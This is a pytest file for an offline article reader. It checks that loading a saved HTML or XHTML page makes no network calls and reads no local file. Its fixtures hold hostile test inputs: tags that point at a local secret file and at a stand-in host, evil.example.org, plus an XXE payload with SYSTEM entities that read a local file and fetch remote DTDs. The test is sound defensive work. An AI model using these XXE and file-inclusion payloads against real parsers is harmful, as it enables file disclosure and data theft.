"""A saved page is read offline: no connection, no local file, no external entity."""

from __future__ import annotations

import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from reader.core.article import load

_events: list[tuple[str, tuple[Any, ...]]] | None = None


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _events is not None and (
        event.startswith(("socket.", "urllib.", "http.", "ftplib."))
        or event in ("open", "os.listdir", "subprocess.Popen", "os.system")
    ):
        _events.append((event, args))


sys.addaudithook(_audit)  # audit hooks cannot be removed: it records only inside `recording`


@pytest.fixture
def recording() -> Iterator[list[tuple[str, tuple[Any, ...]]]]:
    global _events
    _events = []
    try:
        yield _events
    finally:
        _events = None


def _page(secret: Path) -> str:
    url = secret.as_uri()
    body = " ".join(
        "The council in Mombasa met on Tuesday to discuss the new harbour plan." for _ in range(6)
    )
    return f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Harbour plan</title>
<link rel="stylesheet" href="https://cdn.example.com/site.css">
<link rel="stylesheet" href="{url}">
<link rel="preload" href="http://tracker.example.net/p.js">
<style>@import url("{url}"); @import "https://fonts.example.com/f.css";</style>
<script src="https://cdn.example.com/app.js"></script>
<script src="{url}"></script>
<base href="http://evil.example.org/">
</head><body><article>
<h1>Harbour plan</h1>
<img src="https://images.example.com/photo.jpg" alt="photo">
<img src="{url}" alt="local">
<img srcset="{url} 1x, http://images.example.com/2x.jpg 2x">
<iframe src="https://video.example.com/embed/1"></iframe>
<iframe src="{url}"></iframe>
<object data="{url}"></object><embed src="{url}">
<svg><image href="{url}"/></svg>
<p>{body}</p>
<p><a href="{url}">a local link</a> and <a href="https://example.com/">a web link</a>.</p>
</article></body></html>
"""


def _xxe_page(secret: Path) -> str:
    body = " ".join("Officials in Kisumu said the bridge would reopen soon." for _ in range(6))
    return f"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html [
  <!ENTITY xxe SYSTEM "{secret.as_uri()}">
  <!ENTITY remote SYSTEM "http://evil.example.org/x.dtd">
  <!ENTITY % param SYSTEM "http://evil.example.org/param.dtd"> %param;
]>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Bridge</title></head>
<body><article><h1>Bridge</h1><p>{body} &xxe; &remote;</p></article></body></html>
"""


@pytest.mark.parametrize(("name", "make"), [("page.html", _page), ("page.xhtml", _xxe_page)])
def test_loading_a_page_touches_nothing_outside_it(
    tmp_path: Path, recording: list[tuple[str, tuple[Any, ...]]], name: str, make: Any
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENTS root:x:0:0", "utf-8")
    page = tmp_path / name
    page.write_text(make(secret), "utf-8")
    load(page)  # warm up: lazy imports open their own modules
    recording.clear()

    article = load(page)

    assert "SECRET" not in article.text
    assert "evil.example.org" not in article.text
    network = [e for e in recording if e[0] != "open"]
    assert network == []
    opened = [str(args[0]) for event, args in recording if event == "open"]
    assert str(page) in opened  # the hook does see files being opened
    assert all(str(secret) not in o for o in opened), opened
    assert all(o == str(page) or not o.startswith(str(tmp_path)) for o in opened), opened
